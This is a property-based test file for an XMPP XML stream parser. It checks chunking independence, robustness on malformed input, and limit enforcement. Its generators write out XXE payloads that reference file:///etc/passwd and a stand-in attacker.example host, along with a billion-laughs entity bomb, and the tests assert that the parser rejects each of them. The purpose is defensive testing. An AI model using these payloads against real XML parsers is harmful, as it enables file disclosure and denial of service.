// Property tests for the XML stream parser: chunking independence, robustness
// on hostile input, and the restriction and limit guarantees.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { DEFAULT_XML_LIMITS, XmlParseError, XmlStreamParser, parseElement, type XmlErrorCondition, type XmlLimits } from './xml-stream.ts';
import { Element } from '../xmpp/element.ts';

const HEADER =
  "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' to='example.com' version='1.0'>";

interface Outcome {
  events: string[];
  errors: XmlErrorCondition[];
  /** Largest bufferedBytes seen after any write. */
  maxBuffered: number;
}

/** Feeds the chunks and records every callback; fails the test if write() throws or a callback follows an error. */
function feed(chunks: Iterable<Buffer>, limits?: Partial<XmlLimits>): Outcome {
  const out: Outcome = { events: [], errors: [], maxBuffered: 0 };
  const after = (event: string) => {
    assert.equal(out.errors.length, 0, `${event} after an error`);
    out.events.push(event);
  };
  const parser = new XmlStreamParser(
    {
      streamStart: (attrs) => after('start ' + JSON.stringify(attrs)),
      stanza: (el) => after('stanza ' + el.toString()),
      streamEnd: () => after('end'),
      error: (condition) => {
        out.errors.push(condition);
        out.events.push('error ' + condition);
      },
    },
    limits,
  );
  for (const chunk of chunks) {
    parser.write(chunk);
    out.maxBuffered = Math.max(out.maxBuffered, parser.bufferedBytes);
  }
  assert.ok(out.errors.length <= 1, 'error reported more than once');
  return out;
}

function* splitAt(buf: Buffer, cuts: number[]): Generator<Buffer> {
  let prev = 0;
  for (const cut of [...new Set(cuts.map((c) => c % (buf.length + 1)))].sort((a, b) => a - b)) {
    yield buf.subarray(prev, cut);
    prev = cut;
  }
  yield buf.subarray(prev);
}

function* chunksOf(buf: Buffer, size: number): Generator<Buffer> {
  for (let i = 0; i < buf.length; i += size) yield buf.subarray(i, i + size);
}

const cuts = fc.array(fc.nat(), { maxLength: 40 });

// --- generators for valid streams ------------------------------------------------

const xmlChar = fc.oneof(
  fc.constantFrom('&', '<', '>', '"', "'", '\r', '\n', '\t', ' ', ']]>', 'a', 'Z'),
  fc.integer({ min: 0x20, max: 0xd7ff }).map((c) => String.fromCodePoint(c)),
  fc.integer({ min: 0xe000, max: 0xfffd }).map((c) => String.fromCodePoint(c)),
  fc.integer({ min: 0x10000, max: 0x10ffff }).map((c) => String.fromCodePoint(c)),
);
const xmlText = fc.string({ unit: xmlChar, maxLength: 12 });
const elementName = fc.constantFrom('message', 'body', 'x', 'query', 'item', 'é', 'n-1', 'a.b', '𝄞');
const attrName = fc.constantFrom('id', 'to', 'type', 'xml:lang', 'v', 'é');
const namespace = fc.constantFrom(undefined, 'jabber:client', 'urn:a', 'urn:b', 'http://jabber.org/protocol/disco#info');

interface Tree {
  name: string;
  ns: string | undefined;
  attrs: Record<string, string>;
  children: (Tree | string)[];
}

const tree: fc.Arbitrary<Tree> = fc.letrec<{ node: Tree }>((tie) => ({
  node: fc.record({
    name: elementName,
    ns: namespace,
    attrs: fc.dictionary(attrName, xmlText, { maxKeys: 3 }),
    children: fc.array(fc.oneof({ maxDepth: 4, depthIdentifier: 'tree' }, xmlText, tie('node')), { maxLength: 4 }),
  }),
})).node;

/** A normalised Element, as the parser should produce it: xmlns only where the namespace changes, text merged. */
function toElement(t: Tree, parentNs: string): Element {
  const ns = t.ns ?? parentNs;
  const el = new Element(t.name, ns !== parentNs ? { xmlns: ns, ...t.attrs } : t.attrs);
  for (const c of t.children) {
    if (typeof c !== 'string') el.append(toElement(c, ns));
    else if (c === '') continue;
    else if (typeof el.children.at(-1) === 'string') el.children[el.children.length - 1] += c;
    else el.append(c);
  }
  return el;
}

const validStream = fc
  .record({
    stanzas: fc.array(tree, { maxLength: 5 }),
    gaps: fc.array(fc.constantFrom('', ' ', '\n', '\r\n\t '), { minLength: 6, maxLength: 6 }),
    close: fc.boolean(),
    bom: fc.boolean(),
  })
  .map(({ stanzas, gaps, close, bom }) => {
    const expected = stanzas.map((t) => toElement(t, 'jabber:client').toString());
    const body = expected.map((s, i) => gaps[i] + s).join('') + gaps[5] + (close ? '</stream:stream>' : '');
    return { bytes: Buffer.from((bom ? '\uFEFF' : '') + HEADER + body, 'utf8'), expected, close };
  });

// --- properties ---------------------------------------------------------------------

test('a valid stream yields the generated stanzas, whatever the chunking', () => {
  fc.assert(
    fc.property(validStream, cuts, ({ bytes, expected, close }, cutPoints) => {
      const whole = feed([bytes]);
      assert.deepEqual(whole.errors, []);
      assert.deepEqual(
        whole.events.filter((e) => e.startsWith('stanza ')),
        expected.map((s) => 'stanza ' + s),
      );
      assert.equal(whole.events.at(-1) === 'end', close);
      assert.deepEqual(feed(splitAt(bytes, cutPoints)).events, whole.events);
    }),
    { numRuns: 300 },
  );
});

test('a valid stream split at every byte boundary parses the same', () => {
  fc.assert(
    fc.property(validStream, ({ bytes }) => {
      const whole = feed([bytes]).events;
      for (let i = 1; i < bytes.length; i++) {
        assert.deepEqual(feed([bytes.subarray(0, i), bytes.subarray(i)]).events, whole, `split at ${i}`);
      }
      assert.deepEqual(feed(chunksOf(bytes, 1)).events, whole);
    }),
    { numRuns: 15 },
  );
});

test('random bytes never throw and give at most one error, the same for any chunking', () => {
  const prefix = fc.constantFrom('', HEADER, HEADER + '<message><body>');
  fc.assert(
    fc.property(prefix, fc.uint8Array({ maxLength: 300 }), cuts, (p, data, cutPoints) => {
      const bytes = Buffer.concat([Buffer.from(p), data]);
      const whole = feed([bytes]);
      assert.deepEqual(feed(splitAt(bytes, cutPoints)).events, whole.events);
    }),
    { numRuns: 500 },
  );
});

const interesting = fc.oneof(
  fc.constantFrom(...Buffer.from('<>/&;="\'!?[]-: x\r\n#')),
  fc.constantFrom(0x00, 0x80, 0xbf, 0xc0, 0xc3, 0xe2, 0xed, 0xf0, 0xf4, 0xf8, 0xfe, 0xff),
  fc.integer({ min: 0, max: 255 }),
);
const mutation = fc.record({
  at: fc.nat(),
  kind: fc.constantFrom('replace', 'insert', 'delete', 'duplicate'),
  byte: interesting,
  len: fc.integer({ min: 1, max: 20 }),
});

function mutate(buf: Buffer, muts: { at: number; kind: string; byte: number; len: number }[]): Buffer {
  let b = buf;
  for (const m of muts) {
    const at = m.at % (b.length + 1);
    if (m.kind === 'replace' && at < b.length) b = Buffer.concat([b.subarray(0, at), Buffer.from([m.byte]), b.subarray(at + 1)]);
    else if (m.kind === 'insert') b = Buffer.concat([b.subarray(0, at), Buffer.from([m.byte]), b.subarray(at)]);
    else if (m.kind === 'delete') b = Buffer.concat([b.subarray(0, at), b.subarray(at + m.len)]);
    else b = Buffer.concat([b.subarray(0, at + m.len), b.subarray(at)]);
  }
  return b;
}

test('mutated valid streams never throw, and are parsed the same for any chunking', () => {
  fc.assert(
    fc.property(validStream, fc.array(mutation, { minLength: 1, maxLength: 4 }), cuts, ({ bytes }, muts, cutPoints) => {
      const input = mutate(bytes, muts);
      const whole = feed([input]);
      assert.deepEqual(feed(splitAt(input, cutPoints)).events, whole.events);
      // parseElement on the same bytes either returns or throws XmlParseError
      try {
        parseElement(input);
      } catch (e) {
        assert.ok(e instanceof XmlParseError, String(e));
      }
    }),
    { numRuns: 500 },
  );
});

test('100000 levels of nesting are refused without exhausting the stack', () => {
  fc.assert(
    fc.property(fc.integer({ min: 1, max: 65536 }), elementName, (size, name) => {
      const deep = Buffer.from(`${HEADER}${`<${name}>`.repeat(100000)}`);
      const r = feed(chunksOf(deep, size));
      assert.deepEqual(r.errors, ['policy-violation']);
      assert.throws(
        () => parseElement(`<${name}>`.repeat(100000)),
        (e: unknown) => e instanceof XmlParseError && e.condition === 'policy-violation',
      );
    }),
    { numRuns: 10 },
  );
});

const entityName = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.-]{0,15}$/).filter((n) => !['amp', 'lt', 'gt', 'quot', 'apos'].includes(n));

const doctype = fc.oneof(
  // billion laughs
  fc.record({ levels: fc.integer({ min: 1, max: 10 }), fan: fc.integer({ min: 2, max: 10 }) }).map(({ levels, fan }) => {
    let dtd = '<!ENTITY l0 "lol">';
    for (let i = 1; i <= levels; i++) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(fan)}">`;
    return { dtd: `<!DOCTYPE stream:stream [${dtd}]>`, use: `&l${levels};` };
  }),
  // external entities
  fc.constantFrom('SYSTEM "file:///etc/passwd"', 'SYSTEM "http://attacker.example/x"', 'PUBLIC "-//X//EN" "http://attacker.example/y"').map((ext) => ({
    dtd: `<!DOCTYPE stream:stream [<!ENTITY xxe ${ext}>]>`,
    use: '&xxe;',
  })),
  // parameter entities and external DTD subsets
  fc.constantFrom(
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/dtd"> %p;]>',
    '<!DOCTYPE x SYSTEM "http://attacker.example/dtd">',
    '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<!DOCTYPE x [<!ELEMENT x ANY><!ATTLIST message a CDATA "d">]>',
  ).map((dtd) => ({ dtd, use: '&p;' })),
);

test('DTDs, external entities and undefined entities are restricted-xml', () => {
  const placed = fc.oneof(
    fc.record({ d: doctype, where: fc.constantFrom('prolog', 'after-header', 'in-stanza', 'entity-only') }).map(({ d, where }) => {
      const decl = "<?xml version='1.0'?>";
      const header = HEADER.slice(decl.length);
      switch (where) {
        case 'prolog':
          return `${decl}${d.dtd}${header}<message><body>${d.use}</body></message>`;
        case 'after-header':
          return `${HEADER}${d.dtd}<message>${d.use}</message>`;
        case 'in-stanza':
          return `${HEADER}<message>${d.dtd}</message>`;
        default:
          return `${HEADER}<message><body>${d.use}</body></message>`;
      }
    }),
    fc.record({ name: entityName, inAttr: fc.boolean() }).map(({ name, inAttr }) =>
      inAttr ? `${HEADER}<message id='a&${name};b'/>` : `${HEADER}<message><body>a&${name};b</body></message>`,
    ),
  );
  fc.assert(
    fc.property(placed, cuts, (xml, cutPoints) => {
      assert.deepEqual(feed(splitAt(Buffer.from(xml), cutPoints)).errors, ['restricted-xml'], xml);
    }),
    { numRuns: 300 },
  );
});

test('oversized names, attribute values and attribute counts are policy-violation', () => {
  const fill = fc.constantFrom('a', 'é', '€', '𝄞');
  const oversized = fc.oneof(
    fc.record({ f: fill, extra: fc.integer({ min: 1, max: 800 }) }).map(({ f, extra }) => {
      const name = f.repeat(Math.ceil((DEFAULT_XML_LIMITS.maxNameBytes + extra) / Buffer.byteLength(f)));
      return fc.constantFrom(`${HEADER}<${name}/>`, `${HEADER}<message ${name}='1'/>`, `${HEADER}<message><p:${name} xmlns:p='urn:p'/></message>`);
    }),
    fc.record({ f: fill, extra: fc.integer({ min: 1, max: 30000 }) }).map(({ f, extra }) => {
      const value = f.repeat(Math.ceil((DEFAULT_XML_LIMITS.maxAttributeBytes + extra) / Buffer.byteLength(f)));
      const header = HEADER.replace("to='example.com'", `to='${value}'`);
      return fc.constantFrom(`${HEADER}<message id='${value}'/>`, `${HEADER}<message><x xmlns='urn:${value}'/></message>`, header);
    }),
    fc.integer({ min: DEFAULT_XML_LIMITS.maxAttributes + 1, max: 500 }).map((n) => {
      const attrs = Array.from({ length: n }, (_, i) => ` a${i}=''`).join('');
      return fc.constantFrom(`${HEADER}<message${attrs}/>`, `${HEADER}<message><x${attrs}/></message>`);
    }),
  ).chain((a) => a);
  fc.assert(
    fc.property(oversized, cuts, (xml, cutPoints) => {
      assert.deepEqual(feed(splitAt(Buffer.from(xml), cutPoints)).errors, ['policy-violation']);
    }),
    { numRuns: 200 },
  );
});

test('invalid UTF-8 is not-well-formed wherever it appears', () => {
  const cont = fc.integer({ min: 0x80, max: 0xbf });
  const bad = fc.oneof(
    fc.tuple(fc.constantFrom(0xc0, 0xc1), cont), // overlong 2-byte
    fc.tuple(fc.constant(0xe0), fc.integer({ min: 0x80, max: 0x9f }), cont), // overlong 3-byte
    fc.tuple(fc.constant(0xf0), fc.integer({ min: 0x80, max: 0x8f }), cont, cont), // overlong 4-byte
    cont.map((c) => [c]), // lone continuation byte
    fc.tuple(fc.integer({ min: 0xc2, max: 0xdf })), // truncated 2-byte
    fc.tuple(fc.integer({ min: 0xe1, max: 0xef }), cont), // truncated 3-byte
    fc.tuple(fc.integer({ min: 0xf1, max: 0xf3 }), cont, cont), // truncated 4-byte
    fc.tuple(fc.constant(0xed), fc.integer({ min: 0xa0, max: 0xbf }), cont), // UTF-16 surrogate
    fc.tuple(fc.constant(0xf4), fc.integer({ min: 0x90, max: 0xbf }), cont, cont), // above U+10FFFF
    fc.tuple(fc.integer({ min: 0xf5, max: 0xff })), // never valid
  );
  const where = fc.constantFrom(
    ['', HEADER],
    [HEADER.slice(0, 60), HEADER.slice(60)],
    [`${HEADER}<message><body>é`, 'x</body></message>'],
    [`${HEADER}<message id='`, "x'/>"],
    [`${HEADER}<presence/> `, ' <presence/>'],
  );
  fc.assert(
    fc.property(bad, where, cuts, (seq, [before, after], cutPoints) => {
      const input = Buffer.concat([Buffer.from(before), Buffer.from(seq), Buffer.from(after)]);
      assert.deepEqual(feed(splitAt(input, cutPoints)).errors, ['not-well-formed']);
    }),
    { numRuns: 300 },
  );
});

test('memory stays bounded: bufferedBytes never exceeds the limit plus one chunk', () => {
  const max = DEFAULT_XML_LIMITS.maxStanzaBytes;
  const attack = fc.constantFrom(
    { open: `${HEADER}<message><body>`, fill: 'x' },
    { open: `${HEADER}<message><body>`, fill: '€𝄞' },
    { open: `${HEADER}<message id='`, fill: 'é' },
    { open: `${HEADER}<message><!--`, fill: '-x' },
    { open: `${HEADER}<message><![CDATA[`, fill: ']' },
    { open: `${HEADER}<message><?pi `, fill: 'x' },
    { open: `${HEADER}<m`, fill: 'n' },
    { open: `${HEADER}<message>&`, fill: 'e' },
    { open: HEADER, fill: ' \r\n' },
    { open: "<stream:stream to='", fill: 'x' },
    { open: '<!DOCTYPE x [', fill: 'y' },
  );
  fc.assert(
    fc.property(attack, fc.integer({ min: 512, max: 65536 }), ({ open, fill }, roughSize) => {
      // whole characters only, so chunks stay valid UTF-8 when repeated
      const chunk = Buffer.from(fill.repeat(Math.ceil(roughSize / Buffer.byteLength(fill))));
      const size = chunk.length;
      let fed = 0;
      const chunks = function* () {
        yield Buffer.from(open);
        // Enough to pass the limit several times over; the parser must give up well before.
        while (fed < 4 * (max + size)) {
          fed += size;
          yield chunk;
        }
      };
      const r = feed(chunks());
      assert.deepEqual(r.errors, ['policy-violation']);
      assert.ok(r.maxBuffered <= max + size, `buffered ${r.maxBuffered} with chunks of ${size}`);
    }),
    { numRuns: 40 },
  );
});
